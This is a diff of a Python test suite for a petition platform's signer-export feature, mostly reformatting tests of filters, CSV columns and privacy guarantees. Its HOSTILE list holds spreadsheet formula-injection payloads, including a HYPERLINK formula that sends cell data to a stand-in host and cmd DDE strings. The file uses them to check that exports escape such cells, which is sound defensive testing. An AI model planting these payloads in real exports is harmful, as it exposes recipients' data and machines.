@@ -35,7 +35,10 @@ def test_germany_this_week_gives_only_the_german_contactable_signer_of_that_week
         ({"until": "2026-03-02"}, ["Aigerim Bekova", "Old Supporter"]),
         ({"since": "2026-03-04", "until": "2026-03-04"}, ["Marie Dubois"]),
         ({"audience": "delivery"}, ["Aigerim Bekova", "Jonas Weber", "Marie Dubois", "Old Supporter", "Gone Quiet"]),
-        ({"audience": "delivery", "country": "DE", "since": "2026-03-01"}, ["Aigerim Bekova", "Jonas Weber", "Gone Quiet"]),
+        (
+            {"audience": "delivery", "country": "DE", "since": "2026-03-01"},
+            ["Aigerim Bekova", "Jonas Weber", "Gone Quiet"],
+        ),
         ({"audience": "delivery", "states": ["confirmed", "pending"], "country": "FR"}, ["Marie Dubois"]),
         ({"audience": "delivery", "states": ["pending"]}, ["Pending Person"]),
         # A contact list only carries addresses proven by the confirmation email.
@@ -61,12 +64,23 @@ def test_contact_list_columns_and_values_are_exact(organizer_client, known):
     petition, rows = known
     data = body(download(organizer_client, petition, country="FR"))
     header = data.decode().splitlines()[0]
-    assert header == '"name","email","country","signed_at","confirmed_at","keep_updated","consent_version","language","state"'
-    assert parse_csv(data) == [{
-        "name": "Marie Dubois", "email": rows["marie"].email, "country": "FR",
-        "signed_at": "2026-03-04T12:00:00Z", "confirmed_at": "2026-03-04T12:05:00Z", "keep_updated": "yes",
-        "consent_version": "2026-11-27", "language": "en", "state": "confirmed",
-    }]
+    assert (
+        header
+        == '"name","email","country","signed_at","confirmed_at","keep_updated","consent_version","language","state"'
+    )
+    assert parse_csv(data) == [
+        {
+            "name": "Marie Dubois",
+            "email": rows["marie"].email,
+            "country": "FR",
+            "signed_at": "2026-03-04T12:00:00Z",
+            "confirmed_at": "2026-03-04T12:05:00Z",
+            "keep_updated": "yes",
+            "consent_version": "2026-11-27",
+            "language": "en",
+            "state": "confirmed",
+        }
+    ]
 
 
 def test_delivery_list_has_no_email_addresses(organizer_client, known):
@@ -82,8 +96,15 @@ def test_no_export_ever_carries_ip_addresses_or_tokens(client, administrator, kn
     client.force_login(administrator)
     for audience in ("contactable", "delivery"):
         for file_format in ("csv", "xlsx"):
-            data = body(download(client, petition, audience=audience, file_format=file_format,
-                                 states=["confirmed", "pending", "suspicious", "rejected"]))
+            data = body(
+                download(
+                    client,
+                    petition,
+                    audience=audience,
+                    file_format=file_format,
+                    states=["confirmed", "pending", "suspicious", "rejected"],
+                )
+            )
             text = data.decode("utf-8") if file_format == "csv" else _xlsx_text(data)
             assert "203.0.113.9" not in text
             assert "ip" not in [cell.strip('"') for cell in text.splitlines()[0].split(",")]
@@ -92,11 +113,13 @@ def test_no_export_ever_carries_ip_addresses_or_tokens(client, administrator, kn
 
 def _xlsx_text(data: bytes) -> str:
     sheet = load_workbook(io.BytesIO(data), read_only=True).active
-    return "\n".join(",".join(str(c) if c is not None else "" for c in row) for row in sheet.iter_rows(values_only=True))
+    return "\n".join(
+        ",".join(str(c) if c is not None else "" for c in row) for row in sheet.iter_rows(values_only=True)
+    )
 
 
 HOSTILE = [
-    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
+    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
     ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
     ("-2+3", "'-2+3"),
     ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -175,8 +198,14 @@ def test_filters_refuse_what_makes_no_sense(petition):
 
 
 def test_filters_round_trip_through_json_in_a_canonical_form(petition):
-    filters = ExportFilters(petition_id=petition.pk, states=("rejected", "confirmed"), country="de",
-                            since=at(2).date(), file_format="xlsx", excel=True)
+    filters = ExportFilters(
+        petition_id=petition.pk,
+        states=("rejected", "confirmed"),
+        country="de",
+        since=at(2).date(),
+        file_format="xlsx",
+        excel=True,
+    )
     assert filters.states == ("confirmed", "rejected")
     assert filters.country == "DE" and filters.excel is False  # the Excel CSV option means nothing for XLSX
     assert ExportFilters.from_json(petition_id=petition.pk, data=filters.as_json()) == filters
@@ -185,5 +214,9 @@ def test_filters_round_trip_through_json_in_a_canonical_form(petition):
 def test_cell_formatting(petition):
     almaty = at(2, 10).astimezone(ZoneInfo("Asia/Almaty"))
     assert export_cells.format_row([None, True, False, almaty, "=x"]) == [
-        "", "yes", "no", "2026-03-02T10:00:00Z", "'=x"
+        "",
+        "yes",
+        "no",
+        "2026-03-02T10:00:00Z",
+        "'=x",
     ]
